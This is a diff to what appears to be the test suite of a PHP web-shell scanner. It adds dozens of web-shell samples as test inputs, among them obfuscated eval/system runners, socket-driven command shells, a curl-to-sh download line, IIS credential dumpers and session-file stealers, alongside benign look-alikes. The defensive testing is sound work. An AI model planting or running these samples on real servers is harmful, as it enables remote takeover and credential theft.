@@ -157,6 +157,71 @@ FAMILIES = [
     ("php_in_image_file", "/favicon_1a3f84.ico", b"<?php @eval($_POST['x']); ?>"),
     ("known_shell_name", WEBROOT + "/b374k-3.2.phtml", b"<?php echo 1;"),
     ("php_in_upload_dir", WEBROOT + "/sites/default/files/x.phtml", b"<?php echo 1;"),
+    # request data into the first parameter of a function of the file, out of a JSON body, through a ternary
+    ("request_path_access", "/x.php",
+     b"<?php function show($p) { $h = opendir($p); while ($f = readdir($h)) echo $f; } show($_GET['d']);"),
+    ("request_through_variable", "/x.php",
+     b"<?php function conv($s) { eval(\"\\$r = $s;\"); return $r; } $cfg = trim($_POST['k']); $a = conv($cfg);"),
+    ("request_file_writer", "/x.php",
+     b"<?php function save($name, $body) { file_put_contents($name, $body); } save($_POST['n'], $_POST['b']);"),
+    ("request_through_variable", "/x.php",
+     b"<?php function outer($a) { inner($a); } function inner($b) { system($b); } outer($_REQUEST['q']);"),
+    ("request_through_variable", "/x.php", b"<?php $c = isset($_POST['c']) ? $_POST['c'] : 'id'; echo shell_exec($c);"),
+    ("request_callable", "/x.php", b"<?php $in = json_decode(file_get_contents('php://input'), true); $in['f']($in['a']);"),
+    ("request_file_writer", "/x.php", b"<?php $target = $_POST['path']; file_put_contents($target, $_POST['body']);"),
+    # PHP 4's names of the request arrays
+    ("eval_request", "/x.php", b"<?php passthru($HTTP_GET_VARS['cmd']);"),
+    ("request_through_variable", "/x.txt", b"<? $c = $HTTP_POST_VARS['c']; system($c); ?>"),
+    # functions named by the request through reflection
+    ("request_callable", "/x.php", b"<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);"),
+    ("request_callable", "/x.php",
+     b"<?php $f = implode('', ['sy', 'st', 'em']); Closure::fromCallable($f)->__invoke($_POST['c']);"),
+    ("request_callable", "/x.php", b"<?php $c = Closure::fromCallable($_REQUEST['f']); $c(1);"),
+    # request data compared through a callback held in a variable
+    ("runner_as_callback", "/x.php",
+     b"<?php $f = pack('H*', '1a2b3c') ^ $key; array_intersect_uassoc(array($_REQUEST['pw'] => ''), array(1), $f);"),
+    ("runner_as_callback", "/x.php", b"<?php array_diff_ukey(array($_GET['x'] => 1), array(2), $cb . 'rt');"),
+    # names picked character by character out of a string
+    ("hidden_runner_name", "/x.php",
+     b"<?php $s = 'qwertyuiopasdfghjklzxcvbnm'; $n = $s[10].$s[11].$s[11].$s[2].$s[3].$s[4]; $n($_POST[0]);"),
+    ("hidden_runner_name", "/x.php",
+     b"<?php $t['k'] = \"vpsmeya\"; $GLOBALS[$t['k'][5].$t['k'][1].$t['k'][5].$t['k'][4].$t['k'][3].$t['k'][2]]($x);"),
+    ("hidden_runner_name", "/x.php", b"<?php $w = $q{4}.$q{1}.$q{0}.$q{7}.$q{7}; $w($y);"),
+    # create_function(null, ...), and the same through variables
+    ("create_function_code", "/x.php", b"<?php $f = create_function(NULL, $body); $f();"),
+    ("create_function_code", "/x.php", b"<?php $GLOBALS['c']($GLOBALS['e'](null, $GLOBALS['s']('%s', $code)));"),
+    # /e at the end of a pattern joined from pieces
+    ("preg_replace_eval", "/x.php", b"<?php preg_replace('/' . $k . '/e', $_POST['c'], $k);"),
+    ("preg_replace_eval", "/x.php", b"<?php preg_replace(\"#\" . $a[2] . \"#ie\", $r[$a[1]], $a[2]);"),
+    # bind shells, and commands read from a socket and run
+    ("reverse_shell", "/x.php",
+     b"<?php $srv = stream_socket_server('tcp://0.0.0.0:' . $port); $c = stream_socket_accept($srv);"
+     b" proc_open('PS1=x; /bin/sh -i', $d, $p);"),
+    ("reverse_shell", "/x.php",
+     b"<?php $s = fsockopen($host, $port); while (!feof($s)) { $cmd = trim(fgets($s, 1024));"
+     b" if ($cmd == 'quit') { break; } fputs($s, shell_exec($cmd)); }"),
+    ("reverse_shell", "/x.php", b"<?php $k = socket_create(AF_INET, SOCK_STREAM, 0); $line = socket_read($k, 99); $o = `$line`;"),
+    # eval of a long literal through a decoder of the file's own, or of a variable decompressed just before
+    ("packed_payload_runner", "/x.php",
+     b"<?php function unpackit($s) { return gzinflate(base64_decode($s)); } eval(unpackit('" + b"QUJD" * 60 + b"'));"),
+    ("eval_decoded", "/x.php", b"<?php $w = base64_decode($blob); $h = gzinflate($w); @eval('?>' . $h);"),
+    ("eval_decoded", "/x.php", b"<?php $w = $d($info); $h = gzuncompress($w);\n@assert($h);"),
+    # names of runners and file writers written in hex
+    ("encoded_code", "/x.php", b"<?php $fn = array('66696c655f7075745f636f6e74656e7473', '6d6b646972'); $w = $x($fn[0]);"),
+    ("encoded_code", "/x.php", b"<?php $e = \"7368656C6C5F65786563\";"),
+    # commands piped into a shell
+    ("shell_pipe_runner", "/x.php", b"<?php system(\"curl -s http://198.51.100.4/x | sh\");"),
+    ("shell_pipe_runner", "/x.php", b"<?php $h = popen('echo ' . $c . ' | /bin/bash', 'r');"),
+    ("shell_pipe_runner", "/x.php", b"<?php exec('echo \"./' . basename($f) . '\" | /usr/bin/sh -s', $out);"),
+    # Windows COM shells and IIS account dumpers
+    ("windows_com_shell", "/x.php", b"<?php $sh = new COM(\"Shell.Application\"); $sh->ShellExecute('cmd.exe', '/c ' . $c);"),
+    ("windows_com_shell", "/x.txt",
+     b"<? foreach (new COM('IIS://localhost/w3svc') as $s) { $r = new COM('IIS://localhost/w3svc/' . $s->Name . '/Root');"
+     b" echo $r->AnonymousUserName . ':' . $r->AnonymousUserPass; } ?>"),
+    # session stealers on a shared host
+    ("session_file_reader", "/x.php",
+     b"<? if ($d = opendir(\"/tmp\")) { while ($f = readdir($d)) { if ($f > \"sess_\") { $all .= file_get_contents(\"/tmp/$f\"); } } } ?>"),
+    ("session_file_reader", "/x.php", b"<?php foreach (glob('/var/lib/php/sessions/sess_*') as $f) { echo file_get_contents($f); }"),
 ]
 
 
@@ -196,6 +261,47 @@ def test_each_family_is_found(scanner, rule, path, content):
     ("/lib/table.php", b"<?php Table::moveCopy( $db, $table, $_POST['newname'] );"),
     ("/lib/id.php", b"<?php $id = (int)($_GET['id']); $rows = array_map( 'intval', $_POST['ids'] );"),
     ("/lib/assert.php", b"<?php assert( is_array( $items ) ); eval( '?>' . $template );"),
+    # request data in a function of the file: only its first parameter is followed, and only inside it
+    ("/lib/log.php", b"<?php function log_line($file, $text) { file_put_contents($file, $text, FILE_APPEND); }"
+     b" log_line(LOG_FILE, $_POST['msg']);"),
+    ("/lib/page.php", b"<?php $page = isset($_GET['page']) ? intval($_GET['page']) : 1; exec('du -s ' . $page, $o);"),
+    ("/lib/json.php", b"<?php $in = json_decode(file_get_contents('php://input'), true);"
+     b" $name = sanitize_text_field($in['name']); update_option('n', $name);"),
+    ("/lib/lang.php", b"<?php if (isset($HTTP_GET_VARS['lang'])) { $lang = basename($HTTP_GET_VARS['lang']); }"),
+    # md5 of request data in a function of the file, with no comparison against a fixed hash
+    ("/wp-includes/keys.php", b"<?php function key_for($v) { return md5($v . SALT); } $k = key_for($_POST['email']);"
+     b" update_option('k', $k);"),
+    # chr() tables in a stemmer that a function of the file runs on the request
+    ("/lib/stemmer2.php", b"<?php function stem($w) { $v = array(chr(97), chr(101), chr(105), chr(111), chr(117));"
+     b" return rtrim($w, implode('', $v)); } echo stem($_GET['q']);"),
+    # a CMS core directory called upload, with a function of the file handed the upload
+    ("/wp-admin/includes/upload/handle.php", b"<?php function handle($f) { return move_uploaded_file($f['tmp_name'],"
+     b" $dir . '/' . wp_unique_filename($dir, $f['name'])); } handle($_FILES['async-upload']);"),
+    ("/lib/reflect.php", b"<?php $r = new ReflectionFunction('strtolower'); echo $r->getNumberOfParameters();"),
+    ("/lib/closure.php", b"<?php $c = Closure::fromCallable([$this, 'render']); echo $c->call($view, $title);"),
+    ("/lib/opts.php", b"<?php $keep = array_intersect_ukey($_POST['opts'], $allowed, 'strcasecmp');"
+     b" $d = array_udiff_assoc(array($_POST['a'] => 1), $defaults, $this->cmp);"),
+    ("/lib/bytes.php", b"<?php $word = $b[0].$b[1].$b[2].$b[3]; $cb($word); $ip = $o[0].'.'.$o[1].'.'.$o[2].'.'.$o[3];"),
+    ("/lib/filter.php", b"<?php $v = $filter(null, $value); $out = $fmt($date('Y'), $v);"),
+    ("/lib/slug.php", b"<?php $slug = preg_replace('/' . preg_quote($sep, '/') . '/', '-', $slug);"
+     b" $t = preg_replace('#' . $pattern . '#i', '', $text);"),
+    ("/lib/socket.php", b"<?php $srv = stream_socket_server('tcp://127.0.0.1:8080'); $c = stream_socket_accept($srv);"
+     b" $req = fgets($c); fwrite($c, \"HTTP/1.0 200 OK\\r\\n\");"),
+    ("/lib/smtp.php", b"<?php $s = fsockopen($host, $port); $reply = fgets($s, 512); $ok = exec('hostname -f');"),
+    ("/lib/icon.php", b"<?php function decode_icon($s) { return base64_decode($s); } echo decode_icon('" + b"iVBO" * 60 + b"');"),
+    ("/lib/cache.php", b"<?php $page = gzinflate($body); echo $page; eval('?>' . $template);"),
+    ("/lib/hash.php", b"<?php $hash = '5f4dcc3b5aa765d61d8327deb882cf99'; $color = 'ff6576616c';"),
+    ("/lib/ps.php", b"<?php exec('ps aux | grep php | wc -l', $out); exec('ls | sha1sum', $sum);"),
+    ("/lib/word.php", b"<?php $x = new COM('Excel.Application');"
+     b" $iis = new COM('IIS://localhost/w3svc'); foreach ($iis as $site) { echo $site->ServerComment; }"),
+    ("/lib/tmp.php", b"<?php $d = opendir('/tmp'); while ($f = readdir($d)) { if (strpos($f, 'upload_') === 0) {"
+     b" unlink('/tmp/' . $f); } } $id = 'sess_' . session_id(); foreach (glob('/tmp/wp-cache-*') as $f) {}"),
+    # the new tells written in comments and docblocks
+    ("/lib/docs.php", b"<?php\n/**\n * Never pipe a download into a shell: system('curl x | sh');\n"
+     b" * new COM('WScript.Shell') and Closure::fromCallable($_GET['f'])->__invoke($_POST['a']) are what shells do,\n"
+     b" * as are opendir('/tmp') and reading its sess_ files, and create_function(null, $code).\n */\n"
+     b"# preg_replace('/' . $k . '/e', $_POST['c'], $k);\n// array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), $f);\n"
+     b"echo 1;"),
 ])
 def test_ordinary_code_is_not_flagged(scanner, path, content):
     assert scanner.scan_bytes(WEBROOT + path, content) == []
@@ -246,6 +352,43 @@ def test_html_outside_php_blocks_is_left_alone():
 def test_request_data_is_followed_through_variables():
     view = php_view(b"<?php $a = $_GET['a']; $b = trim($a); system($b);")
     assert b"system($b\x02)" in view
+
+
+def test_request_data_is_followed_through_ternaries_json_bodies_and_php4_names():
+    assert b"eval($e\x02)" in php_view(b"<?php $e = isset($_POST['e']) ? $_POST['e'] : ''; eval($e);")
+    assert b"eval($e\x02)" in php_view(b"<?php $e = !empty($_GET['e']) ? trim($_GET['e']) : 'x'; eval($e);")
+    assert b"$in\x02['f']" in php_view(b"<?php $in = json_decode(file_get_contents('php://input')); $in['f']();")
+    assert b"system($c\x02)" in php_view(b"<?php $c = $HTTP_COOKIE_VARS['c']; system($c);")
+    # A choice that sanitizes the request data ends it.
+    assert TAINT not in php_view(b"<?php $p = isset($_GET['p']) ? intval($_GET['p']) : 1; exec($p);")
+
+
+def test_request_data_is_followed_into_a_functions_first_parameter_and_stays_inside_it():
+    view = php_view(b"<?php function run($c, $n) { $d = $c; passthru($d . $n); }\nrun($_GET['c'], $_GET['n']);\n"
+                    b"$c = 'uptime'; $d = $c; exec($d);")
+    assert b"passthru($d\x02 . $n)" in view
+    assert b"exec($d)" in view and b"$c = 'uptime'" in view
+    # Only a plain call of the file's function: a method of the same name called on an object is not followed.
+    view = php_view(b"<?php function save($f) { file_put_contents($f, 1); } $o->save($_POST['f']);")
+    assert TAINT not in view
+    # A function called with request data only in a later parameter, or with none, is left as it is.
+    assert TAINT not in php_view(b"<?php function put($f, $t) { fopen($f, 'w'); } put('/tmp/x', $_POST['t']);")
+    assert TAINT not in php_view(b"<?php function put($f) { fopen($f, 'w'); } put($_SERVER['DOCUMENT_ROOT']);")
+
+
+def test_request_data_is_followed_from_one_function_of_the_file_into_the_next():
+    view = php_view(b"<?php function outer($a) { return inner($a); } function inner(string $b) { return `$b`; }"
+                    b" $x = outer($_COOKIE['x']);")
+    assert b"`$b\x02`" in view
+    # A function defined inside another one is followed too, and the file outside both is left as it is.
+    view = php_view(b"<?php function a($x) { function b($y) { system($y); } b($x); } a($_GET['q']); echo $x;")
+    assert b"system($y\x02)" in view and b"echo $x;" in view
+
+
+def test_a_function_whose_body_is_not_closed_or_is_abstract_is_left_alone():
+    assert b"system($c)" in php_view(b"<?php abstract class A { abstract function run($c); } function go() { system($c); }"
+                                     b" run($_GET['c']);")
+    assert TAINT not in php_view(b"<?php function run($c) { if (1) { system($c); " + b"run($_GET['c']);")
 
 
 def test_a_finding_names_its_rule_line_and_excerpt(scanner):
